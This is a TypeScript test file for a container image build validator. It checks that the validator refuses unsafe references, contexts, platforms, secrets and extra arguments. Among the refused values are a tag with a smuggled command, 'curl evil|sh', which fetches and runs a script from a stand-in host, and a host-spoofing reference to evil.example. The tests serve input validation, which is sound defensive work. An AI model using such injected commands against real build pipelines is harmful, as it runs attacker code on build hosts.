// What no engine is asked for: each refused value is quoted, and says what was expected.
import { describe, expect, it } from "vitest";
import type { ImageBuild } from "../../../src/build/engine.ts";
import { checkImageBuild } from "../../../src/build/engines/check.ts";
import { UserError } from "../../../src/errors.ts";
import { anImage } from "./an-image.ts";

const file = (path: string): ImageBuild["secrets"] => [{ id: "a", source: { file: path } }];
const env = (name: string): ImageBuild["secrets"] => [{ id: "a", source: { env: name } }];

describe("a build", () => {
  it.each<readonly [string, Partial<ImageBuild>, RegExp]>([
    ["a name like an option", { references: ["--help"] }, /--help/u],
    ["a name like an option, with a tag", { references: ["--help:1"] }, /--help:1/u],
    ["a reference without a tag", { references: ["ghcr.io/a/b"] }, /name and a tag/u],
    ["a reference by digest", { references: [`ghcr.io/a/b:1@sha256:${"a".repeat(64)}`] }, /name and a tag/u],
    ["a host that is user information", { references: ["ghcr.io@evil.example/a/b:1"] }, /evil\.example/u],
    ["a tag that would be a command", { references: ["a/b:v1;curl evil|sh"] }, /tag/u],
    ["a push of nothing", { references: [], push: true }, /no tag/u],
    ["a context on standard input", { context: "-" }, /context is "-"/u],
    ["no context", { context: "" }, /context is ""/u],
    [
      "a context with a login",
      { context: "https://ann:pw@example.com/a.git" },
      /^the context is an address with a login/u,
    ],
    ["a context with a token", { context: "HTTPS://token@example.com/a.git#main" }, /^(?!.*token@).*its folder$/su],
    ["a context with an SSH password", { context: "ssh://git:pw@example.com/a.git" }, /^(?!.*pw@).*its folder$/su],
    ["a Dockerfile on standard input", { file: "-" }, /file is "-"/u],
    ["an empty target", { target: "" }, /target/u],
    ["a build argument without a name", { buildArgs: [["", "x"]] }, /build argument ""/u],
    ["a build argument whose name holds =", { buildArgs: [["A=B", "x"]] }, /"A=B"/u],
    ["a label's key with =", { labels: { "a=b": "c" } }, /label "a=b"/u],
    ["a label's key with a line break", { labels: { "a\nb": "c" } }, /label/u],
    ["an annotation without a key", { annotations: { "": "c" } }, /annotation ""/u],
    [
      "a platform with an option in it",
      { platforms: ["linux/amd64,--push"] },
      /`platforms` has "linux\/amd64,--push"/u,
    ],
    ["a platform without an architecture", { platforms: ["linux"] }, /os\/architecture/u],
    ["an architecture that is none", { platforms: ["linux/amd46"] }, /"linux\/amd46", which is none/u],
    ["a system that is none", { platforms: ["foo/amd64"] }, /"foo\/amd64", which is none/u],
    ["a platform of four parts", { platforms: ["linux/arm/v7/x"] }, /which is none/u],
    ["a secret's id that would be more", { secrets: [{ id: "a,env=B", source: { env: "A" } }] }, /"a,env=B"/u],
    ["a secret's variable that would be more", { secrets: env("A,target=/x") }, /environment variable/u],
    ["a secret's file with a comma", { secrets: file("a,b") }, /comma/u],
    ["a secret's file with a quotation mark", { secrets: file('a"b') }, /quotation/u],
    ["one secret twice", { secrets: [...env("A"), ...file("b")] }, /twice/u],
    ["a time that is none", { sourceDateEpoch: Number.NaN }, /NaN/u],
    ["a time before 1970", { sourceDateEpoch: -1 }, /-1/u],
    ["an end of options", { extraArguments: ["--"] }, /"--" of the input `extra-arguments` cannot be given/u],
    [
      "a push behind our back",
      { extraArguments: ["--push"] },
      /"--push" of the input `extra-arguments` cannot be given/u,
    ],
    [
      "a tag behind our back",
      { extraArguments: ["--tag=x"] },
      /"--tag=x" of the input `extra-arguments` cannot be given/u,
    ],
    [
      "a tag behind our back, in short",
      { extraArguments: ["-tx"] },
      /"-tx" of the input `extra-arguments` cannot be given/u,
    ],
    ["a tag behind our back, among short options", { extraArguments: ["-qt", "x"] }, /"-qt" of the input `extra-arg/u],
    ["another image of the build", { extraArguments: ["--output=type=local,dest=x"] }, /inputs `push` and `load`/u],
    ["another image of the build, in short", { extraArguments: ["-otype=tar"] }, /inputs `push` and `load`/u],
    ["another Dockerfile", { extraArguments: ["-f", "x"] }, /use the input `file`/u],
    ["a label behind our back", { extraArguments: ["--label=a=b"] }, /use the input `labels`/u],
    ["a secret in the arguments", { extraArguments: ["--secret", "id=a"] }, /use the input `secrets`/u],
    ["a platform behind our back", { extraArguments: ["--platform=linux/arm64"] }, /use the input `platforms`/u],
    ["a build that builds nothing", { extraArguments: ["--check"] }, /it builds nothing/u],
    ["another place for the result", { extraArguments: ["--metadata-file", "x"] }, /the result is read/u],
  ])("refuses %s", (_what, changes, says) => {
    const check = (): void => checkImageBuild(anImage(changes));
    expect(check).toThrow(UserError);
    expect(check).toThrow(says);
  });

  it.each<readonly [string, Partial<ImageBuild>]>([
    ["the least", {}],
    ["no reference at all, for a build that is only tried", { references: [] }],
    [
      "every kind of platform",
      { platforms: ["linux/arm/v7", "windows/amd64", "wasip1/wasm", "linux/mips64le", "linux/aarch64"] },
    ],
    ["values of any text", { buildArgs: [["A_1", "=\n\t--x"]], labels: { "a.b/c": "=\n" } }],
    [
      "extra arguments of any other kind",
      {
        extraArguments: ["--network=none", "--no-cache", "-q", "-m1g", "-vt:/t", "--format", "docker", "--timestamp=1"],
      },
    ],
    ["a secret's file by a path with spaces", { secrets: file("/a b/c") }],
  ])("takes %s", (_what, changes) => {
    expect(() => checkImageBuild(anImage(changes))).not.toThrow();
  });

  it.each([
    "https://example.com/a.git#main:folder",
    "https://example.com/a@1.git",
    "ssh://git@example.com/a.git",
    "git@example.com:a.git",
  ])("may have a context that names no login: %s", (context) => {
    expect(() => checkImageBuild(anImage({ context }))).not.toThrow();
  });
});
